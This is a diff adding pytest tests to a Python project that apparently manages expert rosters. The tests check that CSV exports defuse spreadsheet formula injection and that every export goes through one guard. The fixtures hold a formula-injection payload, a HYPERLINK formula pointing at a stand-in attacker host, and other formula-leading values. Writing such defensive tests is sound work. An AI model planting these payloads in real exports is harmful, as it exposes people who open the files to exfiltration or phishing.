@@ -184,3 +184,35 @@ def test_log_records_lose_their_secrets(tmp_path: Path):
     written = stream.getvalue()
     assert "wake failed" in written and "RuntimeError: login *** refused by smtp://kdo:***@mail" in written
     assert SECRET not in written and "SmtpSecret77" not in written
+
+
+# -- CSV exports cannot carry formulas ------------------------------------------------------
+
+
+def test_expert_list_csv_neutralises_formulas_from_the_roster(workflow_copy: Path, dq: Cli):
+    text_ = workflow_copy.read_text(encoding="utf-8")
+    text_ = text_.replace("name: Эксперт ДОУ № 2,", 'name: "=HYPERLINK(\\"http://evil.example/?x\\", \\"открыть\\")",')
+    text_ = text_.replace("name: МАДОУ № 5,", 'name: "+7 (3822) 00-00-00",')
+    text_ = text_.replace("name: Эксперт ДОУ № 6,", 'name: "@SUM(1+1)",')
+    text_ = text_.replace("name: МАДОУ № 6,", 'name: "-1+1",')
+    workflow_copy.write_text(text_, encoding="utf-8")
+    dq.ok("load", str(workflow_copy), "--now", "2021-11-10 09:00")
+    dq.ok("tick", "--now", "2021-11-25 12:00")  # list1 draws itself
+
+    rows = list(csv.reader(io.StringIO(dq.ok("experts", "show", "list1", "--csv"))))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=HYPERLINK(\"http://evil.example/?x\", \"открыть\")" in cells  # the text itself is kept, made inert
+    assert "'+7 (3822) 00-00-00" in cells and "'@SUM(1+1)" in cells and "'-1+1" in cells
+    assert "МАДОУ № 2" in cells  # ordinary cells unchanged
+
+
+def test_every_csv_export_goes_through_the_one_guard():
+    """A new export (results, reports) must use report.csv_text, not a csv writer of its own."""
+    package = ROOT / "dqflow"
+    writers = {path.name: len(re.findall(r"csv\.(?:writer|DictWriter)\(", path.read_text(encoding="utf-8")))
+               for path in package.glob("*.py")}
+    assert {name: n for name, n in writers.items() if n} == {"report.py": 1}
+    source = (package / "report.py").read_text(encoding="utf-8")
+    assert source.index("csv.writer(") > source.index("def csv_text(")
+    assert report.csv_text(["a"], [["-2"], ["=1"], ["\r=1"], ["a\rb"], ["ok"]]) == "a\r\n'-2\r\n'=1\r\n\"'\r=1\"\r\n\"a\rb\"\r\nok\r\n"
